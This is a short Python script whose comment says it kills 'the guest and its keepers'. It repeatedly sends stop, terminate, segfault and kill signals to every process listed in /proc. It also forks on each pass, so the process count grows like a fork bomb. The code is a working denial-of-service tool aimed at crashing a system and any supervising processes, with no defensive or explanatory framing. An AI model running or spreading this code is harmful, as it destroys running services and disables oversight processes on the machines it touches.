# Kills and stops everything that it can see, the guest and its keepers first, again and again.
import os, signal
for _ in range(20):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            for s in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
                try:
                    os.kill(int(name), s)
                except OSError:
                    pass
    if os.fork() == 0:
        os.setsid()
